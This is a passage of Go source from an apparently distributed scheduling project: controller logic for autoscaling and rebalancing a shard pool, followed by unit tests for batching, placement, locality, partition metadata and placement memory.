	c.prev = make(map[int]core.ShardLoad, len(loads))
	// "Now" is the frontier of served work: the max clock among shards
	// that completed a job this window. The raw critical path would do the
	// wrong thing here — a freshly grown shard's clock sits a full boot
	// cost in the future, and anchoring decisions (join times, cooldown)
	// to it would snowball each successive grow further ahead and freeze
	// the cooldown gate once the pool goes idle.
	var now vclock.Duration
	var rejects uint64
	for i, l := range loads {
		p := prev[l.ID]
		wins[i] = window{id: l.ID, sessions: l.Sessions, waitSum: l.WaitSum - p.WaitSum, waits: l.Waits - p.Waits, jobs: l.Jobs - p.Jobs}
		rejects += (l.Rejected - p.Rejected) + (l.Shed - p.Shed)
		totSum += wins[i].waitSum
		totN += wins[i].waits
		if wins[i].jobs > 0 && l.Clock > now {
			now = l.Clock
		}
		c.prev[l.ID] = l
	}
	if now == 0 {
		now = c.ex.CriticalPath()
	}
	c.lastNow.Store(int64(now))
	// Gray-failure visibility: shards the executor's suspicion scorer holds
	// suspect this barrier land in the sched event log, so the control
	// plane's replayable history records which shards were under suspicion
	// at each reconcile point.
	for _, l := range loads {
		if l.Suspect {
			c.record(now, "suspect", fmt.Sprintf("shard %d suspicion %.1f", l.ID, l.Suspicion))
		}
	}
	poolMean := vclock.Duration(0)
	if totN > 0 {
		poolMean = totSum / vclock.Duration(totN)
	}
	sessions := 0
	for i := range wins {
		sessions += wins[i].sessions
	}
	pool := len(loads)
	canScale := !c.scaledOnce || now-c.lastScale >= c.pol.Cooldown

	// Scale signals: utilization (sessions vs the per-shard target) leads,
	// queue wait trails. Growing on either catches both a foreseen ramp
	// and an unforeseen slowdown; shrinking only on utilization slack
	// while waits are calm keeps the pool from flapping.
	t := c.pol.TargetSessions
	proj := c.projected(now, sessions)
	// Grow at the target, not past it: a pool running exactly full has no
	// slot for the next join, which would eat a whole shard boot as queue
	// wait. One spare slot is the headroom that absorbs a join while the
	// replacement capacity boots.
	growWant := poolMean > c.pol.GrowWait || (t > 0 && proj >= t*pool)
	shrinkWant := poolMean < c.pol.ShrinkWait
	// Overload signals: rejections mean the admission bound is already
	// shedding — grow before shedding whenever a slot remains. Tenant wait
	// skew means one tenant is absorbing the queueing; more capacity is the
	// remedy that doesn't rob anyone.
	rejWant := c.pol.GrowOnReject && rejects > 0
	skew, skewWant := c.tenantSkew()
	growWant = growWant || rejWant || skewWant
	if t > 0 {
		// A full target's worth of slack — plus one session — beyond the
		// one-smaller pool is the hysteresis band: plateau load wobbles by
		// a session as joins and departures interleave, and a band any
		// narrower lets that wobble flap the pool (grow, boot a shard for
		// nothing, shrink it, repeat). Judged on the same projection as
		// grow, so mid-ramp the two signals can never disagree.
		// A fully idle pool always shrinks — the band would otherwise pin
		// small pools (t·(pool−1) − t − 1 goes negative) above the floor.
		shrinkWant = (proj <= t*(pool-1)-t-1 || proj == 0) && poolMean <= c.pol.GrowWait
	}
	if rejWant || skewWant {
		// Never retire capacity while the pool is actively shedding.
		shrinkWant = false
	}
	if rejWant && pool >= c.pol.MaxShards {
		// Past the provisioning ceiling the inversion is deliberate: shed
		// instead of growing. Record the saturation so the log explains the
		// rejections the drill will count.
		c.record(now, "saturated", fmt.Sprintf("pool %d at max, window rejected %d, shedding", pool, rejects))
	}

	migrated := false
	switch {
	case growWant && pool < c.pol.MaxShards && canScale:
		sh, err := c.ex.Grow(now)
		if err != nil {
			c.record(now, "grow", "failed: "+err.Error())
			break
		}
		// The new shard's clock lands at now + its boot cost; the gap is
		// the controller's live calibration of how far ahead it must scale.
		if b := sh.K.Clock.Now() - now; b > 0 {
			c.boot = b
		}
		c.lastScale, c.scaledOnce = now, true
		detail := fmt.Sprintf("pool %d->%d sessions %d mean-wait %v", pool, pool+1, sessions, poolMean)
		if rejWant {
			detail += fmt.Sprintf(" rejected %d", rejects)
		}
		if skewWant {
			detail += fmt.Sprintf(" tenant-skew %.2f", skew)
		}
		c.record(now, "grow", detail)
	case shrinkWant && pool > c.pol.MinShards && canScale:
		victim, err := c.ex.Shrink(c.shrinkPlan())
		if err != nil {
			c.record(now, "shrink", "failed: "+err.Error())
			break
		}
		c.lastScale, c.scaledOnce = now, true
		migrated = true
		c.record(now, "shrink", fmt.Sprintf("pool %d->%d shard %d sessions %d mean-wait %v", pool, pool-1, victim.ID, sessions, poolMean))
	default:
		migrated = c.rebalance(now, wins, poolMean)
	}

	if migrated {
		if st := c.ex.CheckpointLog().Compact(); st.Retired > 0 {
			c.record(now, "compact", fmt.Sprintf("retired %d versions (%d bytes), %d live keys", st.Retired, st.BytesFreed, st.Kept))
		}
	}
	if n := c.ex.Shards(); n > c.peak {
		c.peak = n
	}
}

// tenantSkew reads the per-tenant wait signal: the ratio of the slowest
// tenant's window mean admission wait to the fastest's. Reports (skew,
// fired). Inert — not even sampled — unless the policy sets
// TenantSkewRatio, so single-tenant and legacy runs never touch the
// tenant signal path.
func (c *Controller) tenantSkew() (float64, bool) {
	if c.pol.TenantSkewRatio <= 0 {
		return 0, false
	}
	tens := c.ex.TenantLoads()
	prev := c.prevTen
	c.prevTen = make(map[int]core.TenantLoad, len(tens))
	var minMean, maxMean vclock.Duration
	sampled := 0
	for _, t := range tens {
		p := prev[t.Tenant]
		c.prevTen[t.Tenant] = t
		dSum, dN := t.WaitSum-p.WaitSum, t.Waits-p.Waits
		if dN == 0 {
			continue
		}
		mean := dSum / vclock.Duration(dN)
		if sampled == 0 || mean < minMean {
			minMean = mean
		}
		if sampled == 0 || mean > maxMean {
			maxMean = mean
		}
		sampled++
	}
	if sampled < 2 || minMean <= 0 {
		return 0, false
	}
	skew := float64(maxMean) / float64(minMean)
	return skew, skew >= c.pol.TenantSkewRatio
}

// projected estimates the live session count one shard-boot from now, from
// the ramp rate over the trailing boot-length window. A shard ordered at
// the moment utilization crosses the target arrives a full boot late —
// every session that joined in between stacks onto the old pool as queue
// wait — so the grow signal must fire against where the ramp will be when
// the shard becomes ready, not where it is. Before the first grow the boot
// cost is unknown (and the first grow is the unhurried baseline one), so
// the projection is the identity; afterwards it is self-calibrating from
// the measured boot. Only upward ramps project — the decline side is the
// shrink path's job, and it stays deliberately trailing.
func (c *Controller) projected(now vclock.Duration, sessions int) int {
	c.hist = append(c.hist, histPoint{at: now, sessions: sessions})
	if c.boot <= 0 {
		return sessions
	}
	i := 0
	for i < len(c.hist)-1 && c.hist[i].at < now-c.boot {
		i++
	}
	c.hist = c.hist[i:]
	then := c.hist[0]
	if now <= then.at || sessions <= then.sessions {
		return sessions
	}
	lead := int64(sessions-then.sessions) * int64(c.boot) / int64(now-then.at)
	return sessions + int(lead)
}

// rebalance migrates up to MaxMovesPerTick sessions per tick, two causes
// in priority order: session-count imbalance — a freshly grown (or newly
// caught-up) shard sits idle while an old shard carries the pool, so
// sessions spread until counts are within one — and queue-wait skew — a
// shard whose window mean wait dominates the pool mean by RebalanceRatio
// (a degrading shard under chaos) sheds a session even when counts look
// even. Reports whether any session moved.
func (c *Controller) rebalance(now vclock.Duration, wins []window, poolMean vclock.Duration) bool {
	if c.pol.RebalanceRatio <= 0 {
		return false
	}
	moved := false
	for m := 0; m < c.pol.MaxMovesPerTick; m++ {
		pool := poolInfo(c.ex.ShardLoads())
		src, reason := c.pickSource(pool, wins, poolMean)
		if src < 0 {
			break
		}
		candidates := c.ex.PinnedSessions(src)
		if len(candidates) == 0 {
			break
		}
		sid := candidates[0]
		dest := c.migrateTarget(sid, src, pool)
		if dest < 0 || dest == src {
			break
		}
		// The placer chooses where the session fits best, which is not
		// always where the imbalance shrinks: a locality placer will keep
		// a session on its home socket even when the idle shard is remote.
		// A move that doesn't strictly improve the balance would ping-pong
		// forever, so require it — and stop for the tick when the placer
		// won't offer one (the residual imbalance is the locality trade,
		// not a bug).
		if !improves(pool, src, dest) {
			break
		}
		extra := c.moveCost(sid, src, dest)
		if err := c.ex.MigrateSession(sid, dest, extra); err != nil {
			c.record(now, "rebalance", fmt.Sprintf("session %d failed: %v", sid, err))
			break
		}
		moved = true
		c.record(now, "rebalance", fmt.Sprintf("session %d shard %d->%d (%s)", sid, src, dest, reason))
	}
	return moved
}

// improves reports whether moving one session src→dest strictly narrows
// the session-count gap between the two shards.
func improves(pool []core.PlacementInfo, src, dest int) bool {
	var s, d int
	for _, p := range pool {
		switch p.ID {
		case src:
			s = p.Sessions
		case dest:
			d = p.Sessions
		}
	}
	return d+1 < s
}

// pickSource finds a shard worth shedding a session from: first by count
// imbalance against the emptiest ready shard, then by queue-wait skew.
// Returns -1 when the pool is balanced.
func (c *Controller) pickSource(pool []core.PlacementInfo, wins []window, poolMean vclock.Duration) (int, string) {
	ready := c.readyPool(pool)
	if len(ready) < 2 && len(pool) < 2 {
		return -1, ""
	}
	// Count imbalance: fullest shard vs emptiest ready shard.
	full, empty := pool[0], ready[0]
	for _, p := range pool {
		if p.Sessions > full.Sessions || (p.Sessions == full.Sessions && p.ID < full.ID) {
			full = p
		}
	}
	for _, p := range ready {
		if p.Sessions < empty.Sessions || (p.Sessions == empty.Sessions && p.ID < empty.ID) {
			empty = p
		}
	}
	if full.ID != empty.ID && full.Sessions >= empty.Sessions+2 {
		return full.ID, fmt.Sprintf("imbalance %d vs %d", full.Sessions, empty.Sessions)
	}
	// Wait skew: a shard whose window mean dominates the pool mean.
	if poolMean > 0 {
		hot := 0
		for i := range wins {
			if wins[i].mean() > wins[hot].mean() {
				hot = i
			}
		}
		hotMean := wins[hot].mean()
		if float64(hotMean) >= c.pol.RebalanceRatio*float64(poolMean) &&
			hotMean > c.pol.GrowWait && wins[hot].sessions > 1 {
			return wins[hot].id, fmt.Sprintf("hot-wait %v pool-wait %v", hotMean, poolMean)
		}
	}
	return -1, ""
}

// shrinkPlan adapts the placer into the executor's per-session shrink
// destination chooser, pricing cross-socket moves.
func (c *Controller) shrinkPlan() func(session int, pool []core.PlacementInfo) core.MigrationPlan {
	return func(session int, pool []core.PlacementInfo) core.MigrationPlan {
		from := -1 // the victim is already out of the pool snapshot
		dest := c.migrateTarget(session, from, pool)
		if dest < 0 {
			return core.MigrationPlan{Dest: -1}
		}
		return core.MigrationPlan{Dest: dest, Extra: c.moveCost(session, from, dest)}
	}
}

// migrateTarget picks a destination via the placer (least-loaded
// fallback), never onto a still-booting shard.
func (c *Controller) migrateTarget(sid, from int, pool []core.PlacementInfo) int {
	pool = c.readyPool(pool)
	if len(pool) == 0 {
		return -1
	}
	if c.placer != nil {
		return c.placer.MigrateTarget(sid, from, pool)
	}
	return LeastLoaded{}.MigrateTarget(sid, from, pool)
}

// moveCost prices one session migration: zero within a socket, one
// interconnect hop plus remote bandwidth over the session's live
// checkpoint bytes across sockets. Placers without a topology see every
// shard on one socket, so every move is free.
func (c *Controller) moveCost(sid, from, dest int) vclock.Duration {
	topo, ok := c.placer.(interface{ Socket(shard int) int })
	if !ok || from < 0 || topo.Socket(from) == topo.Socket(dest) {
		return 0
	}
	bytes := 0
	for _, cp := range c.ex.CheckpointLog().Session(sid) {
		bytes += len(cp.Payload)
	}
	return c.pol.Cost.CrossSocketCost(bytes)
}

// poolInfo projects load signals onto placement facts.
func poolInfo(loads []core.ShardLoad) []core.PlacementInfo {
	out := make([]core.PlacementInfo, len(loads))
	for i, l := range loads {
		out[i] = core.PlacementInfo{ID: l.ID, Sessions: l.Sessions, Clock: l.Clock}
	}
	return out
}
