package sched_test

import (
	"reflect"
	"strings"
	"testing"

	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/sched"
	"freepart.dev/freepart/internal/vclock"
)

func TestBatcherSplit(t *testing.T) {
	b := sched.Batcher{Size: 3, Deadline: 100}
	entries := []core.BatchEntry{
		{Arrival: 10}, {Arrival: 20}, {Arrival: 30}, // full batch
		{Arrival: 40}, {Arrival: 200}, // deadline cut: 200-40 > 100
		{Arrival: 210},
	}
	got := b.Split(entries)
	want := [][]int{{0, 1, 2}, {3}, {4, 5}}
	if len(got) != len(want) {
		t.Fatalf("split into %d batches, want %d", len(got), len(want))
	}
	for i, batch := range got {
		if len(batch) != len(want[i]) {
			t.Fatalf("batch %d has %d entries, want %d", i, len(batch), len(want[i]))
		}
	}
}

func TestBatcherSizeOneIsSingletons(t *testing.T) {
	b := sched.Batcher{Size: 1, Deadline: 1000}
	got := b.Split([]core.BatchEntry{{Arrival: 1}, {Arrival: 2}, {Arrival: 3}})
	if len(got) != 3 {
		t.Fatalf("size-1 batcher coalesced: %d batches for 3 entries", len(got))
	}
}

func TestBatcherNeverCoalescesClosedLoop(t *testing.T) {
	// Negative arrivals mean "as soon as the previous call returned" —
	// closed-loop requests with no admission stamp. Coalescing them would
	// change their admission times, so each rides alone.
	b := sched.Batcher{Size: 8, Deadline: 1 << 40}
	got := b.Split([]core.BatchEntry{{Arrival: -1}, {Arrival: -1}, {Arrival: 5}, {Arrival: 6}})
	if len(got) != 3 {
		t.Fatalf("closed-loop entries coalesced: %d batches, want 3", len(got))
	}
	if len(got[2]) != 2 {
		t.Fatalf("stamped entries after closed-loop ones did not coalesce: %v", got)
	}
}

func TestRoundRobinPlace(t *testing.T) {
	pool := []core.PlacementInfo{{ID: 0}, {ID: 1}, {ID: 2}}
	rr := sched.RoundRobin{}
	for s := 0; s < 6; s++ {
		if got := rr.Place(s, pool); got != s%3 {
			t.Fatalf("session %d placed on %d, want %d", s, got, s%3)
		}
	}
}

func TestLeastLoadedPlace(t *testing.T) {
	pool := []core.PlacementInfo{{ID: 0, Sessions: 2}, {ID: 1, Sessions: 1}, {ID: 2, Sessions: 1}}
	if got := (sched.LeastLoaded{}).Place(9, pool); got != 1 {
		t.Fatalf("least-loaded placed on %d, want 1 (fewest sessions, lowest id)", got)
	}
	if got := (sched.LeastLoaded{}).MigrateTarget(9, 1, pool); got != 2 {
		t.Fatalf("migrate target = %d, want 2 (source excluded)", got)
	}
}

func TestTopologySocket(t *testing.T) {
	topo := sched.Topology{ShardsPerSocket: 2}
	for id, want := range []int{0, 0, 1, 1, 2} {
		if got := topo.Socket(id); got != want {
			t.Fatalf("shard %d on socket %d, want %d", id, got, want)
		}
	}
}

func TestLocalityPrefersHomeSocket(t *testing.T) {
	// Four shards on two sockets, equal load: each session opens on its
	// home socket (session id mod sockets).
	l := sched.Locality{Topo: sched.Topology{ShardsPerSocket: 2}}
	pool := []core.PlacementInfo{{ID: 0}, {ID: 1}, {ID: 2}, {ID: 3}}
	if got := l.Place(0, pool); l.Socket(got) != 0 {
		t.Fatalf("session 0 (home socket 0) placed on shard %d (socket %d)", got, l.Socket(got))
	}
	if got := l.Place(1, pool); l.Socket(got) != 1 {
		t.Fatalf("session 1 (home socket 1) placed on shard %d (socket %d)", got, l.Socket(got))
	}
}

func TestLocalitySpillsUnderLoad(t *testing.T) {
	// Home-socket shards carry SpillThreshold more sessions than a remote
	// one, so the session spills cross-socket.
	l := sched.Locality{Topo: sched.Topology{ShardsPerSocket: 2}, SpillThreshold: 2}
	pool := []core.PlacementInfo{
		{ID: 0, Sessions: 3}, {ID: 1, Sessions: 3}, // home socket, loaded
		{ID: 2, Sessions: 0}, {ID: 3, Sessions: 1}, // remote, idle
	}
	if got := l.Place(0, pool); got != 2 {
		t.Fatalf("overloaded home socket did not spill: placed on %d, want 2", got)
	}
	// One session lighter and home wins again: 2 vs 0+spill(2) ties, home id.
	pool[0].Sessions = 2
	if got := l.Place(0, pool); got != 0 {
		t.Fatalf("home socket within threshold spilled: placed on %d, want 0", got)
	}
}

func TestLocalitySocketTieBreak(t *testing.T) {
	// Equal-scoring candidates on different sockets must resolve to the
	// lowest socket id explicitly — not whatever order the pool snapshot
	// happens to arrive in. Session 0's home is socket 0; shards 2 (socket
	// 1) and 4 (socket 2) are both remote with equal load, so both score
	// sessions+spill: socket 1 must win, even listed last.
	l := sched.Locality{Topo: sched.Topology{ShardsPerSocket: 2}, SpillThreshold: 1}
	pool := []core.PlacementInfo{
		{ID: 4, Sessions: 0},                       // socket 2, remote
		{ID: 0, Sessions: 9}, {ID: 1, Sessions: 9}, // socket 0, home, overloaded
		{ID: 2, Sessions: 0}, // socket 1, remote — same score as shard 4
	}
	if got := l.Place(0, pool); got != 2 {
		t.Fatalf("equal-score tie resolved to shard %d, want 2 (lowest socket id)", got)
	}
	// Reversed snapshot order must not change the answer.
	rev := []core.PlacementInfo{pool[3], pool[2], pool[1], pool[0]}
	if got := l.Place(0, rev); got != 2 {
		t.Fatalf("reversed pool order changed the tie-break: shard %d, want 2", got)
	}
	// Within one socket the lower slot id still wins.
	same := []core.PlacementInfo{
		{ID: 3, Sessions: 1}, {ID: 2, Sessions: 1}, // socket 1, tied
	}
	if got := l.Place(2, same); got != 2 {
		t.Fatalf("same-socket tie resolved to shard %d, want 2 (lowest slot)", got)
	}
}

// inertPolicy scales nothing: it pins the pool, disables every signal, and
// keeps batching off.
func inertPolicy(n int) sched.Policy {
	return sched.Policy{MinShards: n, MaxShards: n}
}

func TestControllerGrowsOnUtilization(t *testing.T) {
	reg := all.Registry()
	ex, err := core.NewExecutor(1, core.DirectShards(reg))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	pol := sched.Policy{MinShards: 1, MaxShards: 3, TargetSessions: 2}
	ctl := sched.New(ex, pol, nil)
	// Two sessions fill the one-shard pool to its target: the controller
	// must grow to keep a spare slot.
	ex.Session()
	ex.Session()
	ctl.Tick()
	if got := ex.Shards(); got != 2 {
		t.Fatalf("pool is %d shards after a full-pool tick, want 2", got)
	}
	evs := ctl.Events()
	if len(evs) != 1 || evs[0].Kind != "grow" {
		t.Fatalf("events = %v, want one grow", evs)
	}
	if ctl.PeakShards() != 2 {
		t.Fatalf("peak = %d, want 2", ctl.PeakShards())
	}
}

func TestControllerShrinksIdlePool(t *testing.T) {
	reg := all.Registry()
	ex, err := core.NewExecutor(3, core.DirectShards(reg))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	pol := sched.Policy{MinShards: 1, MaxShards: 3, TargetSessions: 2}
	ctl := sched.New(ex, pol, nil)
	// No sessions at all: the pool shrinks one shard per tick (zero
	// cooldown) down to the floor and no further.
	for i := 0; i < 4; i++ {
		ctl.Tick()
	}
	if got := ex.Shards(); got != 1 {
		t.Fatalf("idle pool is %d shards after 4 ticks, want floor 1", got)
	}
	shrinks := 0
	for _, ev := range ctl.Events() {
		if ev.Kind == "shrink" {
			shrinks++
		}
	}
	if shrinks != 2 {
		t.Fatalf("recorded %d shrinks, want 2", shrinks)
	}
}

func TestControllerRebalancesImbalance(t *testing.T) {
	reg := all.Registry()
	ex, err := core.NewExecutor(2, core.DirectShards(reg))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	// Stack four sessions onto shard 0 by hand, then let the controller
	// level them.
	for i := 0; i < 4; i++ {
		s := ex.Session()
		if s.Shard().ID != 0 {
			if err := ex.MigrateSession(s.ID, 0, 0); err != nil {
				t.Fatal(err)
			}
		}
	}
	pol := inertPolicy(2)
	pol.RebalanceRatio = 3
	pol.MaxMovesPerTick = 4
	ctl := sched.New(ex, pol, nil)
	ctl.Tick()
	loads := ex.ShardLoads()
	if loads[0].Sessions != 2 || loads[1].Sessions != 2 {
		t.Fatalf("sessions after rebalance = %d/%d, want 2/2", loads[0].Sessions, loads[1].Sessions)
	}
	if !strings.Contains(ctl.EventLog(), "rebalance") {
		t.Fatalf("no rebalance event recorded:\n%s", ctl.EventLog())
	}
}

func TestControllerInertPolicyDoesNothing(t *testing.T) {
	reg := all.Registry()
	ex, err := core.NewExecutor(2, core.DirectShards(reg))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	ctl := sched.New(ex, inertPolicy(2), sched.RoundRobin{})
	for i := 0; i < 4; i++ {
		ex.Session()
		ctl.Tick()
	}
	if got := ex.Shards(); got != 2 {
		t.Fatalf("inert controller resized the pool to %d", got)
	}
	if evs := ctl.Events(); len(evs) != 0 {
		t.Fatalf("inert controller recorded events: %v", evs)
	}
}

func TestControllerEventLogReplays(t *testing.T) {
	run := func() ([]core.ShardLoad, string) {
		reg := all.Registry()
		ex, err := core.NewExecutor(1, core.DirectShards(reg))
		if err != nil {
			t.Fatal(err)
		}
		defer ex.Close()
		pol := sched.Policy{MinShards: 1, MaxShards: 4, TargetSessions: 2, RebalanceRatio: 3, MaxMovesPerTick: 2}
		ctl := sched.New(ex, pol, nil)
		var sessions []*core.Session
		for i := 0; i < 6; i++ {
			s := ex.Session()
			sessions = append(sessions, s)
			_ = s.Do(func(sh *core.Shard) error { sh.K.Clock.Advance(vclock.Duration(1000 * (i + 1))); return nil })
			ctl.Tick()
		}
		for _, s := range sessions {
			s.Finish()
		}
		for i := 0; i < 4; i++ {
			ctl.Tick()
		}
		return ex.ShardLoads(), ctl.EventLog()
	}
	l1, log1 := run()
	l2, log2 := run()
	if log1 != log2 {
		t.Fatalf("event logs diverged across identical runs:\n%s\nvs\n%s", log1, log2)
	}
	if !reflect.DeepEqual(l1, l2) {
		t.Fatalf("shard loads diverged:\n%v\nvs\n%v", l1, l2)
	}
	if !strings.Contains(log1, "grow") || !strings.Contains(log1, "shrink") {
		t.Fatalf("scenario did not exercise both scale directions:\n%s", log1)
	}
}
