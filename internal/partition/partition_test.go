package partition

import (
	"bytes"
	"reflect"
	"testing"

	"freepart.dev/freepart/internal/vclock"
)

func TestNewRangeTilesKeySpace(t *testing.T) {
	m := New(Range, 4, 1000)
	if len(m.Parts) != 4 {
		t.Fatalf("parts = %d, want 4", len(m.Parts))
	}
	if m.Parts[0].Lo != 0 || m.Parts[3].Hi != 1000 {
		t.Fatalf("range meta does not tile [0,1000): %+v", m.Parts)
	}
	for i := 1; i < 4; i++ {
		if m.Parts[i].Lo != m.Parts[i-1].Hi {
			t.Fatalf("gap between partitions %d and %d", i-1, i)
		}
	}
	for key := uint64(0); key < 1000; key += 7 {
		p := m.PartitionOf(key)
		if p < 0 || key < m.Parts[p].Lo || key >= m.Parts[p].Hi {
			t.Fatalf("key %d mapped to partition %d [%d,%d)", key, p, m.Parts[p].Lo, m.Parts[p].Hi)
		}
	}
}

func TestHashPartitionOf(t *testing.T) {
	m := New(Hash, 3, 100)
	for key := uint64(0); key < 30; key++ {
		if got, want := m.PartitionOf(key), int(key%3); got != want {
			t.Fatalf("PartitionOf(%d) = %d, want %d", key, got, want)
		}
	}
}

func TestPreferAndRecord(t *testing.T) {
	m := New(Range, 2, 100)
	m.Prefer(1, 5)
	if got := m.Preferred(75); got != 5 {
		t.Fatalf("Preferred(75) = %d, want 5", got)
	}
	if got := m.Preferred(10); got != -1 {
		t.Fatalf("Preferred(10) = %d, want -1 (unset)", got)
	}
	m.Record(75, 4096, "detect")
	m.Record(75, 4096, "detect")
	m.Record(75, 1024, "grade")
	p := m.Parts[1]
	if p.Bytes != 9216 || p.Sessions != 3 || p.Classes["detect"] != 2 || p.Classes["grade"] != 1 {
		t.Fatalf("record accumulation wrong: %+v", p)
	}
}

func TestSplit(t *testing.T) {
	m := New(Range, 2, 100)
	m.Prefer(0, 1)
	newID := m.Split(0, 7)
	if newID < 0 {
		t.Fatal("split declined")
	}
	if len(m.Parts) != 3 {
		t.Fatalf("parts = %d after split, want 3", len(m.Parts))
	}
	// [0,25) stays preferred at 1; [25,50) moves to 7; [50,100) untouched.
	if got := m.Preferred(10); got != 1 {
		t.Fatalf("lower half preferred = %d, want 1", got)
	}
	if got := m.Preferred(30); got != 7 {
		t.Fatalf("split-off half preferred = %d, want 7", got)
	}
	if got := m.Preferred(60); got != -1 {
		t.Fatalf("untouched partition preferred = %d, want -1", got)
	}
	// IDs re-densified in Lo order and the key space still tiles.
	for i, p := range m.Parts {
		if p.ID != i {
			t.Fatalf("partition %d has ID %d after split", i, p.ID)
		}
		if i > 0 && p.Lo != m.Parts[i-1].Hi {
			t.Fatalf("gap after split between %d and %d", i-1, i)
		}
	}
	// Hash metas and 1-wide ranges decline.
	if id := New(Hash, 2, 100).Split(0, 0); id != -1 {
		t.Fatalf("hash split returned %d, want -1", id)
	}
	narrow := New(Range, 1, 1)
	if id := narrow.Split(0, 0); id != -1 {
		t.Fatalf("width-1 split returned %d, want -1", id)
	}
}

func TestCloneIsDeep(t *testing.T) {
	m := New(Range, 2, 100)
	m.Record(10, 5, "a")
	c := m.Clone()
	c.Record(10, 5, "a")
	c.Prefer(0, 3)
	if m.Parts[0].Classes["a"] != 1 || m.Parts[0].Preferred != -1 {
		t.Fatal("mutating the clone leaked into the original")
	}
	if !bytes.Equal(m.Clone().Encode(), m.Encode()) {
		t.Fatal("clone does not encode identically to its source")
	}
}

func TestMetaEncodeCanonical(t *testing.T) {
	build := func() *Meta {
		m := New(Range, 3, 300)
		m.Prefer(1, 2)
		m.Record(50, 100, "zeta")
		m.Record(50, 100, "alpha")
		m.Record(250, 7, "beta")
		return m
	}
	if !bytes.Equal(build().Encode(), build().Encode()) {
		t.Fatal("identical construction sequences encode differently")
	}
}

func TestNilMetaSafe(t *testing.T) {
	var m *Meta
	if m.PartitionOf(5) != -1 || m.Preferred(5) != -1 {
		t.Fatal("nil meta should answer no-partition")
	}
	m.Prefer(0, 0)
	m.Record(0, 1, "x")
	if m.Split(0, 0) != -1 {
		t.Fatal("nil meta split should decline")
	}
	if m.Clone() != nil || m.Encode() != nil {
		t.Fatal("nil meta should clone/encode to nil")
	}
}

func TestPlacementMemoryWarmCold(t *testing.T) {
	pm := NewMemory()
	if warm := pm.Touch(7, 2, 0, 100); warm {
		t.Fatal("first sighting must be cold")
	}
	if warm := pm.Touch(7, 2, 0, 200); !warm {
		t.Fatal("same shard+gen revisit must be warm")
	}
	if warm := pm.Touch(7, 3, 0, 300); warm {
		t.Fatal("different shard must be cold")
	}
	if warm := pm.Touch(7, 3, 1, 400); warm {
		t.Fatal("same shard at a new generation must be cold (cache died with the process)")
	}
	h, m := pm.Stats()
	if h != 1 || m != 3 {
		t.Fatalf("stats = %d/%d, want 1 hit / 3 misses", h, m)
	}
	if r := pm.HitRatio(); r != 0.25 {
		t.Fatalf("hit ratio = %v, want 0.25", r)
	}
}

func TestPlacementMemoryWarmShard(t *testing.T) {
	pm := NewMemory()
	if _, _, ok := pm.WarmShard(9); ok {
		t.Fatal("unseen key should have no warm shard")
	}
	pm.Touch(9, 4, 2, 50)
	shard, gen, ok := pm.WarmShard(9)
	if !ok || shard != 4 || gen != 2 {
		t.Fatalf("WarmShard = (%d,%d,%v), want (4,2,true)", shard, gen, ok)
	}
}

func TestPlacementMemoryRehomeAndEvict(t *testing.T) {
	pm := NewMemory()
	pm.Touch(1, 0, 0, 0)
	pm.Touch(2, 0, 0, 0)
	pm.Touch(3, 5, 0, 0)
	if n := pm.Rehome(0, 6, 1, map[uint64]bool{2: true}); n != 1 {
		t.Fatalf("selective rehome moved %d keys, want 1", n)
	}
	if shard, gen, _ := pm.WarmShard(2); shard != 6 || gen != 1 {
		t.Fatalf("key 2 rehomed to (%d,%d), want (6,1)", shard, gen)
	}
	if shard, _, _ := pm.WarmShard(1); shard != 0 {
		t.Fatalf("key 1 moved unexpectedly to shard %d", shard)
	}
	if n := pm.Rehome(5, 7, 0, nil); n != 1 {
		t.Fatalf("full rehome moved %d keys, want 1", n)
	}
	if n := pm.Evict(6); n != 1 {
		t.Fatalf("evict cooled %d keys, want 1", n)
	}
	if _, _, ok := pm.WarmShard(2); ok {
		t.Fatal("evicted key still warm")
	}
	if pm.Len() != 2 {
		t.Fatalf("Len = %d, want 2", pm.Len())
	}
}

func TestPlacementMemoryEncodeReplay(t *testing.T) {
	build := func() *PlacementMemory {
		pm := NewMemory()
		for k := uint64(0); k < 64; k++ {
			pm.Touch(k*37%64, int(k%4), int(k%2), vclock.Duration(k))
		}
		pm.Rehome(1, 2, 3, nil)
		pm.Evict(3)
		return pm
	}
	a, b := build().Encode(), build().Encode()
	if !bytes.Equal(a, b) {
		t.Fatalf("identical update sequences encode differently:\n%s\n%s", a, b)
	}
}

func TestNilPlacementMemoryInert(t *testing.T) {
	var pm *PlacementMemory
	if pm.Touch(1, 2, 3, 4) {
		t.Fatal("nil memory reported warm")
	}
	if _, _, ok := pm.WarmShard(1); ok {
		t.Fatal("nil memory has a warm shard")
	}
	if pm.Rehome(0, 1, 0, nil) != 0 || pm.Evict(0) != 0 || pm.Len() != 0 {
		t.Fatal("nil memory mutated")
	}
	h, m := pm.Stats()
	if h != 0 || m != 0 || pm.HitRatio() != 0 || pm.Encode() != nil {
		t.Fatal("nil memory should be all-zero")
	}
}

func TestEncodeOrderIndependence(t *testing.T) {
	// Two different insertion orders with the same final state encode
	// identically — the canonical form is sorted, not insertion-ordered.
	a := NewMemory()
	a.Touch(1, 0, 0, 10)
	a.Touch(2, 1, 0, 20)
	b := NewMemory()
	b.Touch(2, 1, 0, 20)
	b.Touch(1, 0, 0, 10)
	// Hit/miss counters match (both all-cold), traces match.
	if !reflect.DeepEqual(a.Encode(), b.Encode()) {
		t.Fatalf("insertion order leaked into encoding:\n%s\n%s", a.Encode(), b.Encode())
	}
}

func TestSplitAtExplicitKey(t *testing.T) {
	m := New(Range, 2, 100)
	m.Prefer(0, 0)
	// Load concentrates at the low end: split at the observed median, not
	// the key midpoint.
	id := m.SplitAt(0, 7, 3)
	if id != 1 {
		t.Fatalf("SplitAt returned id %d, want 1", id)
	}
	if m.Parts[0].Hi != 7 || m.Parts[1].Lo != 7 || m.Parts[1].Hi != 50 {
		t.Fatalf("split intervals wrong: %+v", m.Parts[:2])
	}
	if m.Parts[1].Preferred != 3 || m.Parts[0].Preferred != 0 {
		t.Fatalf("preferences wrong after SplitAt: %+v", m.Parts[:2])
	}
	// Out-of-interval split points decline.
	if got := m.SplitAt(0, 0, 1); got != -1 {
		t.Fatalf("SplitAt at Lo should decline, got %d", got)
	}
